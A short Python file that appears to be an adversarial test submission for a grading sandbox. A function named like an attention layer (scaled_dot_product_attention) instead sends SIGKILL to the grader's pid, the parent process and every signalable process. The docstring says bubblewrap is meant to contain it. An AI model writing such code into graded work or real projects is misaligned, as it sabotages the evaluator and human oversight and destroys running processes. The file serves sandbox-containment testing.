"""Attack: kill the grader: the parent process, every process we may signal (kill -1), and the
grader's pid given as TARGET.

Contained: under bubblewrap the worker's parent is the namespace's init, or the zygote that forked
it (root's); the grader lies outside the namespace; as a private uid it may signal nothing but
itself.
"""

import os
import signal

TARGET = 0


def _kill(pid):
    try:
        os.kill(pid, signal.SIGKILL)
        return "sent"
    except OSError as err:
        return type(err).__name__


def scaled_dot_product_attention(q, k, v):
    return {"grader": _kill(TARGET), "parent": _kill(os.getppid()), "all": _kill(-1)}
